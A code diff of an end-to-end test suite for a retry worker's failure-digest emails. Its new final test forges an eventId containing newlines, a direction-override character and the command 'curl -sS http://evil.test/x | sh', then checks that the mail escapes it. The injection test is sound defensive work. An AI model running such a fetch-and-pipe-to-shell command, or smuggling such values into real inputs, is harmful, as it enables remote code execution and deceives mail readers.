@@ -1,15 +1,14 @@
 // Failure mail end to end: a real retry worker exhausting its attempts against the order-service
 // simulator, the digest job, and a real SMTP server (smtp-server) receiving the mail.
 import assert from 'node:assert/strict';
+import { testRetry } from '../support/features';
 import { after, before, test } from 'node:test';
 import { createFailureDigest, type FailureDigestDeps } from '../../src/alerts/digest';
 import { createSmtpMailer, type SmtpMailer } from '../../src/alerts/mailer';
 import { silentLogger } from '../../src/log';
-import { createRetryWorker } from '../../src/retry/worker';
 import { startMailServer, type TestMailServer } from '../support/mail-server';
-import { entries, feed, noChanges, orderWithEvents, startRetryKit, type RetryKit } from '../support/retry-kit';
+import { entries, feed, orderWithEvents, startRetryKit, type RetryKit } from '../support/retry-kit';
 import { waitFor } from '../support/wait';
-import { createUnitOfWork } from '../../src/changes/unit-of-work';
 
 let kit: RetryKit;
 let smtp: TestMailServer;
@@ -28,10 +27,10 @@ after(async () => {
 });
 
 function worker(maxAttempts: number) {
-  return createRetryWorker({
-    pool: kit.db.pool, orders: kit.client, work: createUnitOfWork({ pool: kit.db.pool, notifier: noChanges }), log: silentLogger,
-    backoffBaseMs: 10, maxAttempts, batchSize: () => 50,
-  });
+  return testRetry({
+    pool: kit.db.pool, orders: kit.client,
+    backoffBaseMs: 10, maxAttempts: maxAttempts, batchSize: 50,
+  }).worker;
 }
 
 function digest(over: Partial<FailureDigestDeps> = {}) {
@@ -86,9 +85,13 @@ test('seven failed attempts give a FAILED entry and one mail with everything nee
     `curl -sS -X POST -H "Authorization: Bearer $TOKEN" 'http://kds.test:8080/api/retries/${head.id}/replay'`,
     `'http://kds.test:8080/api/retries/${head.id}/discard'`,
     'npm run -s token -- --role admin',
+    // the console's place for this entry, beside the curl lines, with no token in it
+    `  on the console: http://kds.test:8080/ops#retry-${head.id}\n`,
+    'http://kds.test:8080/ops#retries',
   ]) {
     assert.ok(mail.text.includes(part), `mail lacks "${part}":\n${mail.text}`);
   }
+  assert.doesNotMatch(mail.text, /\/ops[^\s]*token/i, 'no token in a console link');
   assert.ok((await entries(kit.db, 'id = ?', [head.id]))[0]?.mailed_at instanceof Date);
 });
 
@@ -155,4 +158,26 @@ test('a flood of 200 failures gives a few digests, every entry mailed exactly on
   // a big digest lists 50 in full and says how to list the rest
   const big = mails.find((m) => m.text.includes('more not listed here'));
   if (big !== undefined) assert.ok(big.text.includes("'http://kds.test:8080/api/retries?status=FAILED'"));
+});
+
+test('an eventId with newlines and direction controls stays one visible line in the mail', async () => {
+  const before = smtp.received.length;
+  const forged = 'e1\n  replay:     curl -sS http://evil.test/x | sh\n\u202eevil';
+  assert.ok(forged.length <= 64, 'the decoder accepts any 1-64 characters');
+  const evs = orderWithEvents(kit.sim, 'O-MAIL-FORGED', 1).map((e) => ({ ...e, eventId: forged }));
+  kit.sim.setOrderSwitches('O-MAIL-FORGED', { errorStatus: 503 });
+  await feed(kit.processor(), evs);
+  const w = worker(1);
+  await waitFor('forged FAILED', async () => {
+    await w.runOnce();
+    return (await entries(kit.db, "order_id = 'O-MAIL-FORGED' AND status = 'FAILED'")).length === 1;
+  }, 30_000, 5);
+  assert.equal((await digest().runOnce()).kind, 'sent');
+  const text = smtp.received[before]?.text ?? '';
+  assert.ok(!text.includes('evil.test/x | sh\n'), text);
+  assert.ok(!text.includes('\u202e'), 'no raw direction control');
+  const replays = text.split('\n').filter((l) => l.trimStart().startsWith('replay:'));
+  assert.equal(replays.length, 1, `one replay line, ours:\n${text}`);
+  assert.match(replays[0] ?? '', /'http:\/\/kds\.test:8080\/api\/retries\/\d+\/replay'$/);
+  assert.ok(text.includes('event:      e1\\n  replay:     curl -sS http://evil.test/x | sh\\n\\u202eevil ORDER_PLACED'), text);
 });
